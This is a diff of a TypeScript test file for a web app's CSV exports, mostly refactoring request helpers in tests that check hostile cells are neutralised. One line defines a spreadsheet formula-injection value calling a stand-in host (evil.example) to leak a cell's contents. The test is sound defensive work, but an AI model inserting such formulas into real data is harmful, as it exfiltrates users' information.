@@ -9,7 +9,8 @@ import { loader as reportCsvLoader } from "~/routes/staff.reports.$fiscalYear[.]
 import { getDb, now } from "~/utils/db.server";
 import { createTestFirm, firmInput } from "../factories/firm";
 import { createProjectFixture } from "../factories/projects";
-import { createUser, get, payload, post, settle, signIn } from "../setup/http";
+import { callAction, callLoader } from "../setup/call";
+import { createUser, payload, settle, signIn } from "../setup/http";
 
 const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"詳細")';
 /** A cell a spreadsheet would run: what must never be written. */
@@ -33,8 +34,7 @@ function expectNothingRunnable(records: string[][]) {
   expect(runnable).toEqual([]);
 }
 
-const exportFirms = () =>
-  settle(firmExportLoader({ request: get("/staff/firms/export", { cookie: staffCookie }), params: {}, context: {} }));
+const exportFirms = () => settle(callLoader(firmExportLoader, "/staff/firms/export", { cookie: staffCookie }));
 
 describe("the firm register export", () => {
   const hostile = {
@@ -50,19 +50,13 @@ describe("the firm register export", () => {
     const form = new FormData();
     form.append("file", new File([bytes as BlobPart], "export.csv", { type: "text/csv" }));
     const res = (await settle(
-      importAction({ request: post("/staff/firms/import", form, { cookie: staffCookie }), params: {}, context: {} }),
+      callAction(importAction, "/staff/firms/import", { form, cookie: staffCookie }),
     )) as Response;
-    expect(res.status).toBe(302);
+    expect(res).toHaveRedirect();
     return Number(res.headers.get("Location")!.split("=")[1]);
   }
   const preview = async (id: number) =>
-    payload(
-      await importLoader({
-        request: get(`/staff/firms/import?id=${id}`, { cookie: staffCookie }),
-        params: {},
-        context: {},
-      }),
-    ).pending;
+    payload(await callLoader(importLoader, `/staff/firms/import?id=${id}`, { cookie: staffCookie })).pending;
 
   it("neutralises every hostile cell, and imports back as 0 new, 0 updated, N unchanged", async () => {
     await createTestFirm(hostile);
@@ -92,17 +86,12 @@ describe("the firm register export", () => {
     const id = await upload(bytes);
     expect((await preview(id)).counts.create).toBe(1);
     const confirmed = (await settle(
-      importAction({
-        request: post(
-          `/staff/firms/import?id=${id}`,
-          { intent: "confirm", importId: String(id) },
-          { cookie: staffCookie },
-        ),
-        params: {},
-        context: {},
+      callAction(importAction, `/staff/firms/import?id=${id}`, {
+        form: { intent: "confirm", importId: String(id) },
+        cookie: staffCookie,
       }),
     )) as Response;
-    expect(confirmed.status).toBe(302);
+    expect(confirmed).toHaveRedirect();
     const created = await getDb()
       .selectFrom("firm")
       .selectAll()
@@ -171,10 +160,9 @@ describe("the professor's sign-ups CSV", () => {
     const cookie = await signIn(p.professor.id);
     const records = await csvRecords(
       await settle(
-        signupsCsvLoader({
-          request: get(`/professor/projects/${p.projectId}/signups.csv`, { cookie }),
+        callLoader(signupsCsvLoader, `/professor/projects/${p.projectId}/signups.csv`, {
+          cookie,
           params: { projectId: String(p.projectId) },
-          context: {},
         }),
       ),
     );
@@ -195,10 +183,10 @@ describe("the annual report CSV", () => {
       .execute();
     const load = (lng: string) =>
       settle(
-        reportCsvLoader({
-          request: get("/staff/reports/2026.csv", { cookie: staffCookie, headers: { "Accept-Language": lng } }),
+        callLoader(reportCsvLoader, "/staff/reports/2026.csv", {
+          cookie: staffCookie,
+          headers: { "Accept-Language": lng },
           params: { fiscalYear: "2026" },
-          context: {},
         }),
       );
     const ja = await csvRecords(await load("ja"));
